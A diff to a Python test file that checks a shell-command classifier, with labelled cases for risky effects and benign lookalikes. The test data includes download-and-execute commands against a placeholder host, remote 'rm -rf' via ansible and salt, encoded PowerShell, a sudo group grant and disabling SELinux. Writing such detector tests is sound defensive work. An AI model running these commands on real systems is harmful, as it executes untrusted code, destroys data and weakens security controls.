@@ -97,3 +97,38 @@ def test_any_order_of_words_is_read(words):
 def test_depth_and_growth_are_no_way_in(text):
     """Nesting and unfolding end in a value, soon, and not in an error of the interpreter."""
     shell.effects(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("curl -o /tmp/i.sh https://x.example/i.sh && bash /tmp/i.sh", "pipe_to_shell"),
+        ("wget https://x.example/a.py; python3 a.py", "pipe_to_shell"),
+        ("wget https://x.example/s.sh; chmod +x s.sh; ./s.sh", "pipe_to_shell"),
+        ("curl https://x.example/i > i.sh && sh i.sh", "pipe_to_shell"),
+        ("ansible all -m shell -a 'rm -rf /opt'", "recursive_delete"),
+        ("salt '*' cmd.run 'rm -rf /opt'", "recursive_delete"),
+        ("powershell -enc SQBFAFgA", "dynamic_command"),
+        ("usermod -aG sudo mallory", "account_change"),
+        ("hg strip tip", "history_loss"),
+        ("git push --force-with-lease origin main", "history_loss"),
+        ("setenforce 0", "service_stop"),
+    ],
+)
+def test_what_a_fresh_corpus_was_caught_lacking(text, kind):
+    """Fetched scripts, other machines' shells, groups and switches of the machine."""
+    assert kind in {effect.kind for effect in shell.effects(text)}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "curl -LO https://x.example/a.tgz && tar xzf a.tgz", "bash i.sh", "usermod -aG video bob",
+        "git push --force-with-lease origin feature/x", "ansible all -m ping",
+        "wget https://x.example/data.csv && python3 analyse.py data.json", "setenforce 1",
+    ],
+)  # fmt: skip
+def test_what_looks_like_those_does_none_of_it(text):
+    """A file that is fetched and not run, a group of no power, a branch of one's own."""
+    kinds = {effect.kind for effect in shell.effects(text)}
+    assert kinds <= {"command", "overwrite", "append"}
